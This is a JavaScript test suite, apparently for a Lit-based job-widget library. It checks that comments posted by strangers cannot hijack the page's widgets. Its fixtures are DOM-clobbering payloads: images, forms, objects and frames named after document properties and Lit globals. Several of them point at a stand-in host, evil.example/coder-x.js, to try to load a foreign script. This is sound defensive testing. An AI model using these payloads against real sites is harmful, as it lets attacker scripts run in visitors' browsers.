/* What anybody may post where a site has comments: nothing of it may reach the visitors through us. */
import assert from 'node:assert/strict';

const PAGE = '/partners/strangers';
const SPANISH = 'Salario de los codificadores médicos';
/** What of `document` anybody may hide by naming an image or a form. */
const NAMES = [
  ...['currentScript', 'scripts', 'baseURI', 'head', 'body', 'forms', 'documentElement', 'URL'],
  ...['title', 'readyState', 'activeElement', 'prerendering', 'defaultView', 'links', 'images'],
  ...['querySelector', 'querySelectorAll', 'getElementById', 'createElement', 'createComment'],
  ...[
    'createTextNode',
    'createTreeWalker',
    'importNode',
    'createRange',
    'addEventListener',
    'dispatchEvent',
  ],
  ...['adoptedStyleSheets', 'implementation', 'visibilityState', 'location_', 'cookie', 'hidden'],
];
/** What Lit asks of the global object: any id is a name there. */
const IDS = [
  ...['litHtmlVersions', 'litHtmlPolyfillSupport', 'reactiveElementVersions', 'trustedTypes'],
  ...['reactiveElementPolyfillSupport', 'litElementVersions', 'litElementPolyfillSupport'],
  ...['litElementHydrateSupport', 'litPropertyMetadata', 'ShadyCSS'],
];

/** What a link or a placeholder of a stranger makes the console say. */
const REFUSED = /^<coder-\w+>: .* not for links|net::ERR_FAILED/;

/** Opens the page of a site whose visitors post; gives back what was asked of the stranger's host. */
async function openStrangers(t, names = '', { script = (text) => text } = {}) {
  t.expect(REFUSED);
  const asked = [];
  const before = async (page) => {
    await page.route('https://evil.example/**', (route) => {
      const address = route.request().url();
      asked.push(address);
      return /\/coder-x\.js$/.test(address)
        ? route.abort()
        : route.fulfill({ contentType: 'text/javascript', body: 'window.bitten = true' });
    });
    await page.route(`**${PAGE}`, async (route) => {
      const text = await (await route.fetch()).text();
      const body = script(text.replace('<!-- names -->', () => names));
      await route.fulfill({ contentType: 'text/html; charset=utf-8', body });
    });
  };
  const page = await t.open(PAGE, { before });
  return { page, asked };
}

/** Our own card is there in Spanish, and nothing of the stranger's ran. */
async function unhurt(t, { page, asked }) {
  await t.shows(page, '#ours', SPANISH);
  await t.shows(page, '#utm coder-salary', '$48,860');
  await t.shows(page, 'main coder-apply', 'Send application');
  assert.equal(await page.evaluate(() => window.bitten), undefined);
  assert.deepEqual(
    asked.filter((address) => !address.endsWith('/coder-x.js')),
    [],
  );
}

const evil = (name) => `<img name="${name}" src="https://evil.example/coder-x.js" alt="">`;
const fields = (name) =>
  `<form name="${name}" action="https://evil.example/"><input name="src" value="https://evil.example/coder-x.js"></form>`;
const objects = (name) => `<object id="${name}"></object>`;
const frames = (name) => `<iframe name="${name}" hidden></iframe>`;

const named = (what, write) => ({
  name: `${what} with the names of the document’s own properties: nothing runs, every card shows`,
  run: async (t) => unhurt(t, await openStrangers(t, NAMES.map(write).join(''))),
});

const loaded = (what, tag) => ({
  name: `an image named currentScript, with ${what}: no script of a stranger’s host runs`,
  run: async (t) => {
    const script = (text) =>
      text.replace(/<script src[^]*?<\/script>/, '').replace('</body>', () => `${tag}</body>`);
    await unhurt(t, await openStrangers(t, evil('currentScript') + evil('scripts'), { script }));
  },
});

const link = (page, name) => page.getByRole('link', { name, exact: true });

export default {
  group: 'Strangers',
  cases: [
    loaded(
      'a module',
      '<script type="module" src="/cdn/coder-widgets.js" data-pages="/"></script>',
    ),
    loaded(
      'a classic script at the end',
      '<script src="/cdn/coder-widgets.js" data-pages="/"></script>',
    ),
    loaded(
      'the code run through eval, beside a script that holds what a stranger wrote',
      `<script data-author='{"site":"https://evil.example/coder-x.js"}'></script>
      <script data-pages="/" data-late="/cdn/coder-widgets.js">
        const late = document.querySelector('script[data-late]').getAttribute('data-late');
        fetch(late).then((reply) => reply.text()).then((code) => (0, eval)(code));
      </script>`,
    ),
    named('images', evil),
    named('forms', fields),
    named('objects', objects),
    named('frames', frames),
    named('pairs of images', (name) => evil(name) + evil(name)),
    {
      name: 'names of the page’s globals: nothing stops',
      run: async (t) =>
        unhurt(t, await openStrangers(t, IDS.map((id) => `<p id="${id}"></p>`).join(''))),
    },
    {
      name: 'no link and no placeholder becomes a form',
      run: async (t) => {
        const { page, asked } = await openStrangers(t);
        await unhurt(t, { page, asked });
        assert.equal(await page.locator('coder-apply').count(), 1);
        for (const name of ['Apply with us', 'Apply by both']) await link(page, name).waitFor();
        await page.getByText('Apply by box').waitFor();
        assert.equal(t.complaints.filter((text) => text.includes('<coder-apply>')).length, 1);
      },
    },
    {
      name: 'no figures, sources or addresses of a stranger’s are shown',
      run: async (t) => {
        const { page, asked } = await openStrangers(t);
        await unhurt(t, { page, asked });
        await link(page, 'False figures').waitFor();
        for (const words of ['False box', 'Bad button', 'Guide with a form']) {
          await page.getByText(words).waitFor();
        }
        assert.equal(
          await page.locator('#comments').locator('css=coder-salary, coder-guide').count(),
          0,
        );
        assert.equal(await page.locator('coder-requirements').count(), 0);
      },
    },
    {
      name: 'links marked as strangers’, and all in an ignored list, are left alone',
      run: async (t) => {
        const { page, asked } = await openStrangers(t);
        await unhurt(t, { page, asked });
        for (const name of ['Marked as a stranger’s', 'Marked as paid for', 'In an ignored list']) {
          await link(page, name).waitFor();
        }
        await page.getByText('Box in an ignored list').waitFor();
      },
    },
  ],
};
